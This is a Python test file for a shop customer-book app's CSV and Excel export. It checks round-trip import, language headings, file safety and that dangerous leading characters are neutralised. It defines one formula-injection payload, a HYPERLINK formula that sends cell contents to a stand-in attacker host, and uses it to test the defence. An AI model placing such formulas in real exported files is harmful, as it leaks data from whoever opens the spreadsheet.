"""Exporting the book for a spreadsheet: CSV and .xlsx, safe from formulas, written whole, read back alike."""

from __future__ import annotations

import csv
import hashlib
import io
from datetime import date, datetime, timezone
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from retention_cli.language import start_command_language
from retention_desktop.clock import local_date, shop_zone
from retention_desktop.customers import (
    CustomerDraft,
    add_customer,
    add_customers,
    archive_customer,
    customer_details,
    customer_drafts,
    search_customers,
)
from retention_desktop.db import Database, open_database
from retention_desktop.demo import fill_demo_book
from retention_desktop.exporting import OneTablePerCsv, Table, UnknownFormat, export_book
from retention_desktop.files import FolderMissing, IsAFolder
from retention_desktop.i18n import set_translator, set_translator_factory
from retention_desktop.import_files import read_file
from retention_desktop.importing import Duplicates, guess_mapping, import_customers, preview_import
from retention_desktop.kinds import CustomerKind, Gender, Source
from retention_desktop.progress import Cancelled, Progress

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


@pytest.fixture
def book(db: Database) -> Database:
    """Customers with every field a customer can have, one of each awkward kind."""
    add_customers(
        db,
        [CustomerDraft(
            "أحمد بن سعيد",
            phones=("055 123 4567", "011 234 5678"),
            email="ahmed@example.com",
            address="شارع التحلية، مبنى ٤",
            area="العليا",
            birthday=date(1990, 5, 21),
            gender=Gender.MALE,
            tags=("VIP", "جملة"),
            notes="يحب القهوة\nويتصل مساءً",
            source=Source.SOCIAL_MEDIA,
        )],
        created_at=[datetime(2019, 3, 15, 6, 30, tzinfo=timezone.utc)],  # a customer for years
    )
    add_customer(
        db,
        CustomerDraft(
            "فاطمة", phones=("+44 20 7946 0958",), gender=Gender.FEMALE, birthday=date(1896, 1, 2), source=Source.REFERRAL,
            referred_by_id=search_customers(db, "أحمد بن سعيد")[0],
        ),
    )
    add_customer(db, CustomerDraft("شركة الأفق", kind=CustomerKind.BUSINESS, notes="-5 على كل فاتورة"))
    add_customer(db, CustomerDraft(FORMULA, phones=("0559998888",)))
    archived = add_customer(db, CustomerDraft("عميل مؤرشف", phones=("0557776666",)))
    archive_customer(db, archived)
    return db


def drafts(db: Database) -> list[tuple[object, ...]]:
    """What the book says of each customer that an export can carry: every field, how they found
    the shop, the day they came, the day they were archived and who referred them."""
    ids = search_customers(db, "") + search_customers(db, "", archived=True)
    with db.reading() as connection:
        found = customer_drafts(connection, ids)
    zone = shop_zone(db)
    details = {i: customer_details(db, i) for i in ids}
    days = {i: (local_date(d.created_at, zone), d.archived_at and local_date(d.archived_at, zone)) for i, d in details.items()}
    referrer = {i: d.referred_by_id and details[d.referred_by_id].full_name for i, d in found.items()}
    return sorted(
        (d.full_name, d.phones, d.email, d.address, d.area, d.birthday, d.gender, d.kind, tuple(sorted(d.tags)), d.notes, d.source, days[i], referrer[i])
        for i, d in found.items()
    )


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


@pytest.mark.parametrize("language", ["en", "ar"])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_export_then_import_into_an_empty_book_gives_the_same_customers(book: Database, tmp_path: Path, suffix: str, language: str) -> None:
    """In either language's words (the headings and the sources as the export writes them)."""
    path = tmp_path / f"customers{suffix}"
    start_command_language(language)
    try:
        export_book(book, path, [Table.CUSTOMERS])
    finally:
        set_translator(None)
        set_translator_factory(None)
    empty = open_database(tmp_path / "empty.sqlite3")
    try:
        source = read_file(path)
        preview = preview_import(empty, source, guess_mapping(source))
        assert preview.rejected == [] and preview.new == 5
        import_customers(empty, preview, duplicates=Duplicates.MERGE)
        assert drafts(empty) == drafts(book)
    finally:
        empty.close()


def test_an_export_imported_again_into_its_own_book_adds_nobody(book: Database, tmp_path: Path) -> None:
    """Everyone is known again: by phone, by email (any case), and someone with neither (the
    company) by name; a new person of another name without a phone is still new."""
    add_customer(book, CustomerDraft("نورة", email="Noura@Example.com"))  # an email, no phone
    path = tmp_path / "customers.csv"
    export_book(book, path, [Table.CUSTOMERS])
    before = drafts(book)
    columns = path.read_text(encoding="utf-8-sig").splitlines()[0].count(",") + 1
    with path.open("a", encoding="utf-8") as extra:
        extra.write(",سلمى" + "," * (columns - 2) + "\n")  # someone new (no number yet), with neither phone nor email
    source = read_file(path)
    preview = preview_import(book, source, guess_mapping(source))
    assert (preview.new, preview.in_book, preview.rejected) == (1, 6, [])
    import_customers(book, preview, duplicates=Duplicates.MERGE)
    after = drafts(book)
    assert len(after) == len(before) + 1 and [d for d in after if d[0] == "سلمى"]


def test_csv_is_utf8_with_its_mark_and_formulas_are_neutralised(book: Database, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    result = export_book(book, path, [Table.CUSTOMERS])
    assert result.rows == {Table.CUSTOMERS: 5}
    data = path.read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert rows[0][:4] == ["Customer no.", "Name", "Phones", "Email"]
    by_name = {row[1]: row for row in rows[1:]}
    assert "'" + FORMULA in by_name
    assert by_name["أحمد بن سعيد"][2] == "055 123 4567 / 011 234 5678"
    assert by_name["أحمد بن سعيد"][6] == "1990-05-21"
    assert by_name["فاطمة"][2] == "'+44 20 7946 0958"  # a plus at the start could start a formula
    assert by_name["شركة الأفق"][10] == "'-5 على كل فاتورة"
    assert rows[-1][1] == "عميل مؤرشف" and rows[-1][15]  # the archived come last, with the day
    for row in rows[1:]:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_the_workbook_has_a_sheet_each_with_dates_amounts_and_text(db: Database, tmp_path: Path) -> None:
    fill_demo_book(db, 40, seed=7, two_processes=False)
    add_customer(db, CustomerDraft(FORMULA, phones=("0559998888",)))
    path = tmp_path / "book.xlsx"
    result = export_book(db, path, list(Table), right_to_left=True)
    workbook = load_workbook(path)
    assert workbook.sheetnames == ["Customers", "Follow-ups", "Interactions", "Invoices"]
    for table, sheet in zip(Table, workbook.worksheets):
        assert sheet.max_row == result.rows[table] + 1
        assert sheet.sheet_view.rightToLeft
        assert sheet.freeze_panes == "A2"
    customers = workbook["Customers"]
    formula = next(row for row in customers.iter_rows(min_row=2) if row[1].value == FORMULA)
    assert formula[1].data_type == "s" and formula[1].quotePrefix  # text, as Excel keeps text typed after '
    invoices = workbook["Invoices"]
    first = [cell.value for cell in invoices[2]]
    assert first[0].startswith("INV-") and isinstance(first[2], type(invoices["C2"].value))
    assert invoices["C2"].is_date
    total = Decimal(str(invoices["I2"].value))
    assert total > 0 and invoices["I2"].number_format == "#,##0.00#"


def test_headings_and_words_are_in_the_users_language(book: Database, tmp_path: Path) -> None:
    set_translator(lambda context, source, n: f"⟦{source}⟧")
    try:
        export_book(book, tmp_path / "c.csv", [Table.CUSTOMERS])
    finally:
        set_translator(None)
    rows = list(csv.reader(io.StringIO((tmp_path / "c.csv").read_text("utf-8-sig"), newline="")))
    assert all(heading.startswith("⟦") for heading in rows[0])
    assert "⟦Male⟧" in rows[1] or any("⟦Male⟧" in row for row in rows)


def test_refusals_write_nothing_and_leave_the_book_alone(book: Database, tmp_path: Path) -> None:
    assert book.path is not None
    before = digest(book.path)
    with pytest.raises(OneTablePerCsv):
        export_book(book, tmp_path / "all.csv", list(Table))
    with pytest.raises(UnknownFormat) as unknown:
        export_book(book, tmp_path / "c.pdf", [Table.CUSTOMERS])
    assert "c.pdf" in str(unknown.value)
    with pytest.raises(FolderMissing):
        export_book(book, tmp_path / "nowhere" / "c.csv", [Table.CUSTOMERS])
    (tmp_path / "folder.xlsx").mkdir()
    with pytest.raises(IsAFolder):
        export_book(book, tmp_path / "folder.xlsx", [Table.CUSTOMERS])
    cancelled = Progress()
    cancelled.cancel()
    with pytest.raises(Cancelled):
        export_book(book, tmp_path / "c.xlsx", list(Table), progress=cancelled)
    assert sorted(p.name for p in tmp_path.iterdir() if p.suffix in (".csv", ".xlsx", ".pdf", ".tmp")) == ["folder.xlsx"]
    export_book(book, tmp_path / "ok.xlsx", list(Table))
    assert digest(book.path) == before  # exporting only reads


def test_an_existing_file_is_replaced_whole(book: Database, tmp_path: Path) -> None:
    path = tmp_path / "c.csv"
    path.write_text("old")
    export_book(book, path, [Table.CUSTOMERS])
    assert path.read_bytes().startswith(b"\xef\xbb\xbfCustomer no.")
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".c.csv")] == []
